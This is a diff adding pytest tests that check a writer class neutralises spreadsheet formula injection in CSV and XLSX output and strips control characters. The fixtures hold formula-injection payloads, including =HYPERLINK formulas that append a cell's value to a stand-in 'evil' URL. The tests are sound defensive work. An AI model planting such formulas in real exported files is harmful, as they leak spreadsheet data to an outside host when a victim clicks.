@@ -124,3 +124,37 @@ def test_zip_bomb_is_refused_before_decompressing(tmp_path, monkeypatch):
     monkeypatch.setattr(cio, "XLSX_MAX_RATIO", 5)
     with pytest.raises(cio.InputError, match="zip bomb"):
         cio.read_table(str(path))
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_escaped(tmp_path):
+    import csv
+
+    from classifier.io import AtomicWriter
+    path = tmp_path / "o.csv"
+    w = AtomicWriter(str(path), ["=cmd", "b"])
+    w.write(["=HYPERLINK(\"http://x\"&A1,\"click\")", "+1", "-2", "@SUM(A1)", "\tx", "plain"], ("ok",))
+    w.commit()
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["'=cmd", "b"]
+    assert rows[1] == ["'=HYPERLINK(\"http://x\"&A1,\"click\")", "'+1", "'-2", "'@SUM(A1)", "'\tx", "plain", "ok"]
+    raw = tmp_path / "raw.csv"
+    w = AtomicWriter(str(raw), ["a"], escape_formulas=False)
+    w.write(["=1+1"])
+    w.commit()
+    assert "=1+1" in raw.read_text(encoding="utf-8-sig").splitlines()[1]
+
+
+def test_xlsx_output_never_holds_a_live_formula_and_survives_control_characters(tmp_path):
+    import openpyxl
+
+    from classifier.io import AtomicWriter
+    path = tmp_path / "o.xlsx"
+    w = AtomicWriter(str(path), ["主体\x07名称", "驳回原因"])
+    w.write(['=HYPERLINK("http://evil"&A1,"click")', "网站名称含论坛"])
+    w.commit()
+    wb = openpyxl.load_workbook(path)
+    ws = wb.active
+    assert ws.cell(1, 1).value == "主体名称"
+    cell = ws.cell(2, 1)
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
